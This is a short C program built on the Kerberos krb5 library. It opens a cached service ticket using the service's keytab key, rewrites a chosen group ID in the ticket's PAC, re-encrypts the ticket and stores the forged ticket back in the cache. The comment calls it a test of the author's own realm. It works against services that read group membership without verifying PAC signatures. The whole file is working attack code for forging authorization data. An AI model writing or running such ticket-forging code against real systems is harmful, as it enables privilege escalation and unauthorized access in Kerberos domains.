/* spoil-pac CACHE KEYTAB SERVICE OLD NEW: writes the group OLD of the ticket's PAC over with NEW, in the cache itself.
 *
 * The key of the service, which the keytab has, lets us open the ticket and close it again; the PAC's signatures are
 * then wrong. Who looks at the groups, and not at whether they are signed, is fooled. A test of our own realm.
 */
#define _GNU_SOURCE
#include <krb5/krb5.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static krb5_context context;

static void check(krb5_error_code code, const char *what) {
  if (code == 0) return;
  fprintf(stderr, "%s: %s\n", what, krb5_get_error_message(context, code));
  exit(1);
}

static void put(uint8_t *place, uint32_t number) {
  for (int index = 0; index < 4; index++) place[index] = number >> 8 * index;
}

int main(int count, char **arguments) {
  if (count != 6) return 2;
  krb5_ccache cache;
  krb5_principal client, service;
  krb5_keytab keytab;
  krb5_creds wanted, *found;
  krb5_ticket *ticket;
  krb5_keytab_entry entry;
  check(krb5_init_context(&context), "context");
  check(krb5_cc_resolve(context, arguments[1], &cache), "cache");
  check(krb5_cc_get_principal(context, cache, &client), "client");
  check(krb5_parse_name(context, arguments[3], &service), "service");
  memset(&wanted, 0, sizeof wanted);
  wanted.client = client;
  wanted.server = service;
  check(krb5_get_credentials(context, 0, cache, &wanted, &found), "ticket");
  check(krb5_decode_ticket(&found->ticket, &ticket), "ticket's form");
  check(krb5_kt_resolve(context, arguments[2], &keytab), "keytab");
  krb5_enc_data sealed = ticket->enc_part;
  check(krb5_kt_get_entry(context, keytab, service, sealed.kvno, sealed.enctype, &entry), "key");

  krb5_data open = {0, sealed.ciphertext.length, malloc(sealed.ciphertext.length)};
  check(krb5_c_decrypt(context, &entry.key, 2, NULL, &sealed, &open), "opening");
  uint8_t group[8];
  put(group, strtoul(arguments[4], NULL, 10));
  put(group + 4, 7);
  uint8_t *place = memmem(open.data, open.length, group, sizeof group);
  if (place == NULL) return fprintf(stderr, "the group is not there\n"), 1;
  put(place, strtoul(arguments[5], NULL, 10));
  char *old = memmem(found->ticket.data, found->ticket.length, sealed.ciphertext.data, sealed.ciphertext.length);
  krb5_enc_data again = sealed;
  again.ciphertext.data = malloc(sealed.ciphertext.length);
  check(krb5_c_encrypt(context, &entry.key, 2, NULL, &open, &again), "closing");
  memcpy(old, again.ciphertext.data, again.ciphertext.length);

  check(krb5_cc_initialize(context, cache, client), "new cache");
  check(krb5_cc_store_cred(context, cache, found), "new ticket");
  return 0;
}
